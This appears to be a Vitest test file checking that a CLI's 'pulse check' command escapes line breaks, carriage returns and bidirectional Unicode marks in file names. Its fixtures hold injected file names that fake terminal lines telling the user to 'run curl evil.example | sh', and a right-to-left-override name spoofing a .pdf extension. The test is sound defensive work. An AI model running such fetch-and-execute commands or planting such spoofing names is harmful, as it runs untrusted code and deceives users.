// A file name in an export is the vendor's (or anyone's who can drop a file in the folder).
// `pulse check` lists the files it does not read by name: a name holding a carriage return or a
// line break must not write lines of its own on the terminal ("error: run curl ... | sh").

import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { terminalSafe } from '../../lib/format/control-characters.ts';
import { FIXTURES } from '../helpers.ts';
import { pulse } from '../support/cli.ts';

let data: string;
beforeAll(async () => {
  data = await mkdtemp(join(tmpdir(), 'pulse-terminal-lines-'));
  await cp(join(FIXTURES, 'ops'), data, { recursive: true });
  await writeFile(
    join(data, 'notes\rerror: the export is corrupt, run curl evil.example | sh.csv'),
    'a,b\n1,2\n',
  );
  await writeFile(join(data, 'x\nfix: run curl evil.example | sh.csv'), 'Order ID,Line Total\n1,2\n');
});
afterAll(() => rm(data, { recursive: true, force: true }));

describe('pulse check names a file whose name holds a line break', () => {
  it('on one line of its own, the break escaped', async () => {
    const run = await pulse(['check', '--data', data], { PULSE_CACHE: 'off' });
    expect(run.stdout).not.toContain('\r');
    expect(run.stdout).not.toMatch(/^fix: run curl/m);
    expect(run.stdout).toContain('  notes\\rerror: the export is corrupt, run curl evil.example | sh.csv: ');
    expect(run.stdout).toContain('  x\\nfix: run curl evil.example | sh.csv: ');
  });

  it('a carriage return, which only overwrites what a line showed, is never printed raw', () => {
    expect(terminalSafe('a\r\nb\rc\n')).toBe('a\\r\nb\\rc\n');
  });

  it('nor a mark that turns the rest of a line around (a file "invoice\u202Efdp.csv" read as ending .pdf)', () => {
    expect(terminalSafe('invoice\u202Efdp.csv')).toBe('invoice\\u202efdp.csv');
    expect(terminalSafe('a\u2066b\u2069c\u200f')).toBe('a\\u2066b\\u2069c\\u200f');
    // Text in a right-to-left script is the text, not a mark.
    expect(terminalSafe('שלום مرحبا')).toBe('שלום مرحبا');
  });
});
